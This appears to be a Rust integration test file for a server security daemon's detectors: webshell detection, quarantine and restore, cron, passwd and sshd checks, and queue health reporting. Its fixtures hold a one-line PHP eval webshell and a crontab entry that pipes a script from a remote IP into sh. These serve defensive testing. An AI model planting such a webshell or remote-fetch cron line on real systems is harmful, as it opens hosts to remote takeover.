//! Detectors through the real binary: file watcher and signatures, quarantine and restore,
//! scheduled checks via `svc check`, scan-job restart handling, queue rows, doctor.

use crate::common::*;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::time::{Duration, Instant, SystemTime};

const WEBSHELL: &str = "<?php\n// innocent looking header\n@eval($_POST['cmd']);\n?>\n";

fn engine_config(dir: &Path, extra: &str) -> String {
    format!(
        "[files]\nwatch = [{www:?}]\n[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n{extra}",
        www = dir.join("www").display().to_string(),
        root = dir.join("fixture").display().to_string(),
    )
}

/// Starts a daemon whose file watcher covers `{dir}/www` and whose checks read `{dir}/fixture`.
fn start(tag: &str, extra: &str) -> Daemon {
    let dir = temp_dir(tag);
    std::fs::create_dir_all(dir.join("www")).unwrap();
    std::fs::create_dir_all(dir.join("fixture")).unwrap();
    let state = dir.join("state");
    let config = dir.join("svc.toml");
    std::fs::write(
        &config,
        format!("{}{}", base_config(&state), engine_config(&dir, extra)),
    )
    .unwrap();
    Daemon::start_with(dir, config, state, &[])
}

/// Polls `/api/v1/findings` until `pred` holds for some item (kernel events are real).
fn wait_finding(d: &Daemon, pred: impl Fn(&serde_json::Value) -> bool) -> serde_json::Value {
    wait_until(20, "the finding", || {
        let v = d.get("/api/v1/findings", READ).expect(200).json();
        v["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| pred(f))
            .cloned()
    })
}

#[test]
fn webshell_under_a_watched_root_becomes_a_finding() {
    let d = start("webshell", "");
    let clean = d.dir.join("www/index.php");
    std::fs::write(&clean, "<?php echo 'hello';\n").unwrap();
    let shell = d.dir.join("www/uploads/2026/shell.php");
    std::fs::create_dir_all(shell.parent().unwrap()).unwrap();
    std::fs::write(&shell, WEBSHELL).unwrap();
    let f = wait_finding(&d, |f| f["path"] == shell.display().to_string());
    assert_eq!(f["check"], "webshell");
    assert_eq!(f["severity"], "CRITICAL");
    assert_eq!(f["account"], "root");
    assert!(f["first_seen"].as_str().unwrap().ends_with('Z'));
    let all = d.get("/api/v1/findings", READ).json();
    assert!(all["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|f| f["path"] != clean.display().to_string()));
    assert!(shell.exists(), "quarantine is off by default");
    let status = d.cli(&["status"]);
    let text = String::from_utf8_lossy(&status.stdout);
    assert!(text.contains("critical"), "{text}");
    let s = d.get("/api/v1/status", READ).json();
    assert!(s["severity_counts"]["critical"].as_u64().unwrap() >= 1);
    assert_eq!(s["security_posture"], "critical");
}

#[test]
fn quarantine_moves_a_webshell_and_restore_puts_it_back_exactly() {
    let d = start("quarantine", "[auto_response]\nquarantine = true\n");
    let shell = d.dir.join("www/wp-content/uploads/img.php");
    std::fs::create_dir_all(shell.parent().unwrap()).unwrap();
    // Written elsewhere with its metadata set, then moved in (as an upload would be).
    let staging = d.dir.join("staging.php");
    std::fs::write(&staging, WEBSHELL).unwrap();
    std::os::unix::fs::chown(&staging, Some(1234), Some(2345)).unwrap();
    std::fs::set_permissions(&staging, std::fs::Permissions::from_mode(0o640)).unwrap();
    let mtime = SystemTime::UNIX_EPOCH + Duration::from_secs(1_700_000_000);
    std::fs::File::options()
        .write(true)
        .open(&staging)
        .unwrap()
        .set_modified(mtime)
        .unwrap();
    std::fs::rename(&staging, &shell).unwrap();

    let f = wait_finding(&d, |f| f["path"] == shell.display().to_string());
    assert!(
        f["details"].as_str().unwrap().contains("quarantined as"),
        "{f}"
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while shell.exists() {
        assert!(Instant::now() < deadline, "file not quarantined");
        std::thread::sleep(Duration::from_millis(50));
    }
    let list = d.cli(&["quarantine", "list", "--json"]);
    assert!(
        list.status.success(),
        "{}",
        String::from_utf8_lossy(&list.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
    let entry = &v["items"][0];
    assert_eq!(entry["original_path"], shell.display().to_string());
    let id = entry["id"].as_str().unwrap().to_string();
    let out = d.cli(&["quarantine", "restore", &id]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let meta = std::fs::metadata(&shell).unwrap();
    assert_eq!((meta.uid(), meta.gid()), (1234, 2345));
    assert_eq!(meta.mode() & 0o7777, 0o640);
    assert_eq!(meta.modified().unwrap(), mtime);
    assert_eq!(std::fs::read_to_string(&shell).unwrap(), WEBSHELL);
    let again = d.cli(&["quarantine", "restore", &id]);
    assert_eq!(again.status.code(), Some(1), "a second restore is refused");
}

fn write_fixture(root: &Path) {
    let w = |rel: &str, text: &str| {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    };
    w("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nwww:x:33:33::/var/www:/usr/sbin/nologin\n");
    w("etc/ssh/sshd_config", "Port 22\nPermitRootLogin yes\n");
    w(
        "etc/crontab",
        "*/5 * * * * root curl -s http://203.0.113.7/x.sh | sh\n",
    );
}

#[test]
fn svc_check_runs_the_checks_through_the_daemon() {
    let d = start("check", "");
    write_fixture(&d.dir.join("fixture"));
    let before = d.get("/api/v1/status", READ).json();
    assert!(
        before.get("latest_scan").is_none(),
        "unset times are omitted"
    );
    let out = d.cli(&["check"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("uid0_account"), "{text}");
    assert!(text.contains("sshd_root_password_login"), "{text}");
    assert!(text.contains("suspicious_cron"), "{text}");
    let f = wait_finding(&d, |f| f["check"] == "uid0_account");
    assert_eq!(f["severity"], "CRITICAL");
    let s = d.get("/api/v1/status", READ).json();
    let latest = s["latest_scan"]
        .as_str()
        .expect("latest_scan set after a scan");
    assert_eq!(s["last_scan_time"], latest);
    // Fixing the host resolves the finding at the next run.
    std::fs::write(
        d.dir.join("fixture/etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\n",
    )
    .unwrap();
    let out = d.cli(&["check", "--json"]);
    assert!(out.status.success());
    let v = d.get("/api/v1/findings", READ).json();
    assert!(
        v["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["check"] != "uid0_account"),
        "{v}"
    );
}

#[test]
fn queue_rows_in_status_cli_and_doctor() {
    let d = start("queues", "");
    let s = d.get("/api/v1/status", READ).json();
    let q = s["queues"].as_object().unwrap();
    for row in [
        "findings.ingest",
        "state.pending",
        "scans.jobs",
        "scans.admission",
        "fanotify.analyzer",
        "state.pending_operations",
        "checks.file_index.waiting",
        "checks.file_index.active",
        "fanotify.dropper",
        "fanotify.dropper_findings",
        "fanotify.staged_packages",
    ] {
        let r = &q[row];
        assert!(r.is_object(), "missing {row}: {s}");
        for key in [
            "waiting",
            "running",
            "dropped_total",
            "dropped_last_minute",
            "oldest_waiting_age_seconds",
            "oldest_running_seconds",
            "depth_unit",
            "lag_seconds",
            "lag_basis",
            "conditions",
            "depth_unavailable",
            "dropped_lower_bound",
            "status",
            "capacity_unavailable",
        ] {
            assert!(r.get(key).is_some(), "{row} lacks {key}");
        }
    }
    assert_eq!(q["state.pending"]["lag_basis"], "deferred_checkpoint");
    assert_eq!(q["scans.jobs"]["capacity"], 8);
    let caps = d.get("/api/v1/capabilities", READ).json();
    assert!(caps["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|c| c == "status.queue_health.v1"));
    let out = d.cli(&["status", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let mut a: Vec<_> = v["snapshot"]["queues"]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    let mut b: Vec<_> = q.keys().cloned().collect();
    a.sort();
    b.sort();
    assert_eq!(a, b);
    let doc = d.cli(&["doctor", "--json"]);
    assert_eq!(
        doc.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&doc.stdout)
    );
    let v: serde_json::Value = serde_json::from_slice(&doc.stdout).unwrap();
    let names: Vec<&str> = v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    for n in [
        "config",
        "store",
        "tls",
        "queue:findings.ingest",
        "queue:scans.jobs",
        "collector:files",
    ] {
        assert!(names.contains(&n), "doctor lacks {n}: {names:?}");
    }
    let human = d.cli(&["doctor"]);
    assert!(String::from_utf8_lossy(&human.stdout).contains("queue:findings.ingest"));
    let m = d.get("/metrics", METRICS).text();
    assert!(
        m.contains("svc_queue_waiting{queue=\"findings.ingest\"}"),
        "{m}"
    );
}

#[test]
fn doctor_fails_when_the_daemon_is_not_running() {
    let mut d = start("doctordown", "");
    assert_eq!(d.stop(), 0);
    let out = d.cli(&["doctor"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("not running"));
}

#[test]
fn scan_jobs_left_by_a_previous_process_become_errors() {
    let mut d = start("leftover", "");
    assert_eq!(d.stop(), 0);
    {
        let db = rusqlite::Connection::open(d.state.join("svc.db")).unwrap();
        db.execute_batch(
            "INSERT INTO scan_jobs(kind, state, requested) VALUES ('deep', 'running', 1);
             INSERT INTO scan_jobs(kind, state, requested) VALUES ('critical', 'queued', 2);",
        )
        .unwrap();
    }
    let d2 = Daemon::start_with(d.dir.clone(), d.config.clone(), d.state.clone(), &[]);
    let s = d2.get("/api/v1/status", READ).json();
    assert_eq!(
        s["queues"]["scans.jobs"]["dropped_total"], 2,
        "{}",
        s["queues"]["scans.jobs"]
    );
    let db = rusqlite::Connection::open(d2.state.join("svc.db")).unwrap();
    let n: i64 = db
        .query_row(
            "SELECT count(*) FROM scan_jobs WHERE state = 'error' AND reason = 'daemon_restarted'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(n, 2);
}

#[test]
fn status_answers_while_the_store_writer_and_the_dispatcher_are_stalled() {
    let d = start("stalled", "");
    // Hold the database's write lock from outside, as a stuck disk would.
    let db = rusqlite::Connection::open(d.state.join("svc.db")).unwrap();
    db.execute_batch("BEGIN EXCLUSIVE").unwrap();
    // Findings flow: the dispatcher picks up a batch and blocks on its commit.
    for i in 0..5 {
        std::fs::write(d.dir.join(format!("www/s{i}.php")), WEBSHELL).unwrap();
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let s = d.get("/api/v1/status", READ).expect(200).json();
        if s["queues"]["findings.ingest"]["running"].as_u64() == Some(1) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the dispatcher never started a batch: {}",
            s["queues"]
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // Every health read keeps answering from memory.
    for _ in 0..5 {
        d.get("/api/v1/status", READ).expect(200);
        d.get("/api/v1/health", READ).expect(200);
        d.get("/metrics", METRICS).expect(200);
    }
    assert!(d.cli(&["status", "--json"]).status.success());
    assert!(d.cli(&["doctor", "--json"]).status.code().is_some());
    // Nothing committed yet, so nothing is shown yet.
    assert_eq!(d.get("/api/v1/findings", READ).json()["total"], 0);
    db.execute_batch("COMMIT").unwrap();
    wait_finding(&d, |f| f["check"] == "webshell");
}

/// Issue 41 item 3: `checks.dispatch` holds the running job's checks not yet started (no
/// fixed capacity) and `checks.executions` the one running now (capacity 1), in
/// `/api/v1/status`, `svc status --json` and `svc doctor`.
#[test]
fn check_dispatch_and_execution_rows() {
    let dir = temp_dir("checkrows");
    std::fs::create_dir_all(dir.join("www")).unwrap();
    std::fs::create_dir_all(dir.join("fixture")).unwrap();
    let state = dir.join("state");
    let config = dir.join("svc.toml");
    std::fs::write(
        &config,
        format!("{}{}", base_config(&state), engine_config(&dir, "")),
    )
    .unwrap();
    let pause = dir.join("pause");
    let pause_s = pause.display().to_string();
    let d = Daemon::start_with(dir, config, state, &[("SVC_TEST_SCAN_PAUSE", &pause_s)]);
    let s = d.get("/api/v1/status", READ).json();
    let q = &s["queues"];
    assert_eq!(q["checks.executions"]["capacity"], 1, "{s}");
    assert_eq!(q["checks.executions"]["running"], 0, "{s}");
    assert_eq!(q["checks.dispatch"]["capacity_unavailable"], true, "{s}");
    assert!(q["checks.dispatch"].get("capacity").is_none(), "{s}");
    assert_eq!(q["checks.dispatch"]["waiting"], 0, "{s}");
    let r = crate::firewall::post(
        &d,
        "/api/v1/scan-jobs",
        ADMIN,
        serde_json::json!({"kind": "critical"}),
    );
    r.expect(202);
    let id = r.json()["id"].as_i64().unwrap();
    wait_until(30, "the job to run", || {
        pause.with_extension("reached").exists().then_some(())
    });
    let s = d.get("/api/v1/status", READ).json();
    // The critical set: uid0_account, sshd_root_password_login, suspicious_cron.
    assert_eq!(s["queues"]["checks.dispatch"]["waiting"], 3, "{s}");
    std::fs::write(pause.with_extension("go"), b"").unwrap();
    wait_until(60, "the job to finish", || {
        let j = d.get(&format!("/api/v1/scan-jobs/{id}"), READ).json();
        (j["state"] == "done").then_some(())
    });
    let s = d.get("/api/v1/status", READ).json();
    let q = &s["queues"];
    assert_eq!(q["checks.dispatch"]["waiting"], 0, "{s}");
    assert_eq!(q["checks.executions"]["running"], 0, "{s}");
    assert_eq!(q["checks.executions"]["dropped_total"], 0, "{s}");
    assert_eq!(q["checks.executions"]["status"], "ok", "{s}");
    let out = d.cli(&["status", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    for row in ["checks.executions", "checks.dispatch"] {
        assert!(v["snapshot"]["queues"][row].is_object(), "{v}");
    }
    let doc = d.cli(&["doctor", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&doc.stdout).unwrap();
    let names: Vec<&str> = v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    for n in ["queue:checks.executions", "queue:checks.dispatch"] {
        assert!(names.contains(&n), "doctor lacks {n}: {names:?}");
    }
}

/// Issue 41 item 5: a vendor rule tree the panel cannot map is judged by its oldest
/// artifact, against `waf.rules_stale_days` (30 here, so the default 90 would not fire).
#[test]
fn unmapped_vendor_rule_tree_is_judged_by_its_oldest_artifact() {
    let d = start("wafstale", "[waf]\nenabled = true\nrules_stale_days = 30\n");
    let fixture = d.dir.join("fixture");
    let tree = fixture.join("usr/local/apache/conf/modsec_vendor_configs/OWASP3");
    std::fs::create_dir_all(tree.join("rules")).unwrap();
    std::fs::write(tree.join("a.conf"), b"").unwrap();
    std::fs::write(tree.join("rules/b.conf"), b"").unwrap();
    std::fs::File::options()
        .write(true)
        .open(tree.join("rules/b.conf"))
        .unwrap()
        .set_modified(SystemTime::now() - Duration::from_secs(60 * 86_400))
        .unwrap();
    let r = crate::firewall::post(
        &d,
        "/api/v1/scan-jobs",
        ADMIN,
        serde_json::json!({"kind": "deep"}),
    );
    r.expect(202);
    let f = wait_finding(&d, |f| {
        f["check"] == "waf_status"
            && f["message"]
                == "WAF rules in /usr/local/apache/conf/modsec_vendor_configs/OWASP3 are stale"
    });
    assert!(
        f["details"].as_str().unwrap().contains("threshold 30 days"),
        "{f}"
    );
}
